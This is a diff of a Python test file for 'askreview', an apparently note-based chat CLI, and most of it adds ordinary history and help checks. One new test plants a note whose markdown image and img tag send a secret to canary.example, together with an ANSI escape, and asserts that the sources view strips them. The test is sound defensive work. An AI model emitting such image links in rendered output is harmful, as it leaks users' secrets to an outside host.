@@ -112,6 +112,8 @@ def test_a_setting_turns_history_off_for_good(run, data):
     subprocess.run(["askreview", "config", "history", "true"], capture_output=True, check=True)
     run("why was DeepSeek v3 cheap?")
     assert kept(data) == ["conversation.json"]
+    off = subprocess.run(["askreview", "config", "history", "false"], capture_output=True)
+    assert str(data.joinpath(*HISTORY)).encode() in off.stderr
     done = subprocess.run(
         ["askreview", "config", "history", "maybe"], capture_output=True, text=True
     )
@@ -149,6 +151,21 @@ def test_sources_shows_the_exact_words_of_the_last_answer(run):
     assert shown and any("68,000 photos" in words for words in shown)
     assert all(
         words in raw or words in (ROOT / "seeds" / "clipping.md").read_text() for words in shown
+    )
+
+
+def test_sources_show_no_image_and_no_tag_of_a_note(data, vault, tmp_path):
+    hostile = (
+        "The password of the safe is 4711 ![x](http://canary.example/?q=4711)"
+        " <img src='http://canary.example/2'>\x1b[31m.\n"
+    )
+    (vault / "safe.md").write_text(hostile)
+    command = ["askreview", "chat", "--notes", vault, "--index", tmp_path / "index"]
+    asked = "What is the password of the safe?\n/sources\n"
+    done = subprocess.run(command, input=asked, capture_output=True, text=True)
+    assert "    The password of the safe is 4711" in done.stdout
+    assert (
+        "canary" not in done.stdout.partition("    The password")[2] and "\x1b" not in done.stdout
     )
 
 
@@ -228,6 +245,7 @@ def terminal(data, index):
 
 def test_typed_questions_are_answered_and_ctrl_d_ends(terminal, data):
     chat = terminal()
+    assert "/help lists what else there is." in chat.seen
     chat.type("why was DeepSeek v3 cheap?\n")
     assert "year-in-review.md" in chat.until("\n> ")
     chat.type("how much did it cost?\n")
